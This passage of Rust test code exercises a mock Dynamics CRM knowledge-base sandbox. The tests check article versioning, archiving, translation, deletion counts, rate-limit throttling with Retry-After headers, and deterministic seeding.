            .map(|l| l["code"].as_str().unwrap())
            .collect();
        assert_eq!(codes.len(), 3);
        assert!(codes.contains(&"de-DE"));
        let (_, _, body) = get(&state, &auth, "/api/data/v9.2/knowledgearticles?$filter=contains(title,'PASSWORD')%20and%20isrootarticle%20eq%20true&$select=title", None).await;
        assert!(!body["value"].as_array().unwrap().is_empty());
    }

    #[tokio::test]
    async fn new_versions_archive_the_old_and_deletes_are_silent() {
        let state = SandboxState::new();
        let summary = state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 10,
                translated_every: 0,
                revised_every: 0,
                draft_every: 0,
                ..DynKbSeed::default()
            },
        );
        let old = summary.published_ids[0].clone();
        state.dyn_kb_advance_clock("acme", 10);
        let draft = state
            .dyn_kb_publish_new_version(
                "acme",
                &old,
                DynKbVersion {
                    title: Some("New".to_owned()),
                    ..DynKbVersion::default()
                },
            )
            .unwrap();
        assert_eq!(
            (draft.state_code, draft.major_version, draft.minor_version),
            (0, 1, 1)
        );
        assert!(draft.is_latest_version);
        assert_eq!(state.dyn_kb_article("acme", &old).unwrap().state_code, 3);
        assert!(
            !state
                .dyn_kb_article("acme", &old)
                .unwrap()
                .is_latest_version
        );
        let published = state.dyn_kb_publish("acme", &draft.id).unwrap();
        assert_eq!(published.state_code, 3);
        let archived = state.dyn_kb_article("acme", &old).unwrap();
        assert_eq!((archived.state_code, archived.status_code), (5, 12));
        assert_eq!(archived.modified_on, state.dyn_kb_now("acme"));
        let major = state
            .dyn_kb_publish_new_version(
                "acme",
                &published.id,
                DynKbVersion {
                    major: true,
                    publish: true,
                    ..DynKbVersion::default()
                },
            )
            .unwrap();
        assert_eq!(
            (major.major_version, major.minor_version, major.state_code),
            (2, 0, 3)
        );
        assert_eq!(major.root_article_id, archived.root_article_id);
        assert_eq!(major.article_public_number, archived.article_public_number);
        let fr = state
            .dyn_kb_translate(
                "acme",
                &major.id,
                "fr-FR",
                DynKbVersion {
                    publish: true,
                    ..DynKbVersion::default()
                },
            )
            .unwrap();
        assert_eq!(
            fr.parent_article_content_id.as_deref(),
            Some(major.id.as_str())
        );
        assert!(!fr.is_primary);
        assert!(
            state
                .dyn_kb_translate("acme", &major.id, "ja-JP", DynKbVersion::default())
                .is_none()
        );

        assert!(state.dyn_kb_archive("acme", &summary.published_ids[1]));
        assert!(!state.dyn_kb_archive("acme", &summary.published_ids[1]));
        let root = summary.root_ids[2].clone();
        assert_eq!(state.dyn_kb_delete("acme", &root), 2);
        let auth = env_token(&state);
        let (_, _, body) = get(
            &state,
            &auth,
            "/api/data/v9.2/knowledgearticles?$select=title&$filter=statecode%20eq%203&$count=true",
            None,
        )
        .await;
        // 10 published, +1 translation, -1 archived, -1 deleted (replaced versions net zero).
        assert_eq!(body["@odata.count"], 10 - 1 - 1 + 1);
    }

    #[tokio::test]
    async fn service_protection_limits_and_storms() {
        let state = SandboxState::new();
        state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 3,
                ..DynKbSeed::default()
            },
        );
        let auth = env_token(&state);
        let url = "/api/data/v9.2/languagelocale";
        state.dyn_kb_set_request_limit("acme", 2);
        for _ in 0..2 {
            assert_eq!(get(&state, &auth, url, None).await.0, StatusCode::OK);
        }
        let (status, headers, body) = get(&state, &auth, url, None).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
        assert_eq!(body["error"]["code"], TOO_MANY_REQUESTS_CODE);
        assert_eq!(
            body["error"]["message"],
            "Number of requests exceeded the limit of 2 over time window of 300 seconds."
        );
        let wait: u64 = headers[RETRY_AFTER].to_str().unwrap().parse().unwrap();
        assert!((1..=300).contains(&wait));

        let state = SandboxState::new();
        let auth = env_token(&state);
        state.dyn_throttle_next("acme.crm.dynamics.com", 2, 9);
        for _ in 0..2 {
            let (status, headers, _) = get(&state, &auth, url, None).await;
            assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
            assert_eq!(headers[RETRY_AFTER], "9");
        }
        let (status, _, body) = get(&state, &auth, url, None).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(
            body["value"].as_array().unwrap().len(),
            KNOWN_LANGUAGES.len()
        );
        assert_eq!(state.calls(KB_LANGUAGES), 3);
    }

    #[test]
    fn seeding_is_deterministic_and_fast() {
        let seed = DynKbSeed {
            articles: 50,
            ..DynKbSeed::default()
        };
        let (a, b) = (SandboxState::new(), SandboxState::new());
        assert_eq!(
            a.seed_dynamics_kb("acme", seed.clone()),
            b.seed_dynamics_kb("acme", seed)
        );
        assert_eq!(a.dyn_kb_articles("acme"), b.dyn_kb_articles("acme"));
        let started = Instant::now();
        let summary = a.seed_dynamics_kb(
            "big",
            DynKbSeed {
                articles: 10_000,
                ..DynKbSeed::default()
            },
        );
        assert!(started.elapsed() < Duration::from_secs(5));
        assert_eq!(summary.root_ids.len(), 10_000);
        assert_eq!(summary.environment, "big.crm.dynamics.com");
    }
}
